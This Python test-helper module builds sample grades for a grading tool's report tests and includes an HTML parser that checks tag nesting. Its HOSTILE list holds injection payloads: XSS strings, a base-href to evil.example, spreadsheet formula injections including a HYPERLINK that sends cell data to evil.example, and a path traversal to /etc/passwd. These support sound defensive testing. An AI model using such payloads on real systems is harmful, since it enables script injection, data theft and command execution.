"""Sample grades, and hostile names and texts, for tests of the written reports."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

from memlab.grading.grade import Grade, Mark, Reason
from memlab.labs.lab import Lab, load

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><style>*{display:none}",
    "</title><base href=//evil.example>",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
    "\u202egnp.exe",
    "a\u200bnna",
    "nul\x00byte\r\n=1+2",
    "\ud800 lone",
    "../../etc/passwd",
    "x" * 10_000,
)


def lab() -> Lab:
    return load("06")


def reason(check: str = "write/keeps-any-text", message: str = "write('a') gave None, expected a page") -> Reason:
    return Reason(check, f"The requirement of {check}.", message, ("write('b')", "write('c')"))


def mark(task: str, points: float, *reasons: Reason, visible: bool = True) -> Mark:
    """Return the mark of a task of Lab 06 with five checks, of which one fails for each reason."""
    of = next(one for one in lab().rubric.task if one.name == task)
    return Mark(task, of.title, points, of.points, 5 - len(reasons), 5, visible, reasons)


def grade(student: str = "anna", *marks: Mark, message: str = "") -> Grade:
    return Grade(f"{student}.py", student, "ab" * 32, "ok", message, marks or (mark("write", 12),), 1.5)


def grade_with_text(words: str) -> Grade:
    """Return a grade in which every text that a student can choose is this one."""
    why = Reason("write/keeps-any-text", words, words, (words, words))
    marks = mark("write", 6, why), mark("recall", 0, reason()), mark("stale", 4)
    return Grade(words, words, "ab" * 32, "crashed", words, marks)


def grade_with_lost_points(student: str, check: str = "write/keeps-any-text", message: str = "gave None") -> Grade:
    return grade(student, mark("write", 9.6, reason(check, message)), mark("recall", 14))


def hide_tasks(one: Grade) -> Grade:
    return replace(one, marks=tuple(replace(mark, visible=False) for mark in one.marks))


class PageReader(HTMLParser):
    """Parses a page into tags and text, and checks that the tags are nested correctly."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._open: list[str] = []
        self.feed(page)
        assert self._open == []

    @property
    def names(self) -> list[str]:
        return [name for name, _ in self.tags]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in {"meta", "img"}:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" not in self._open:
            self.text += data
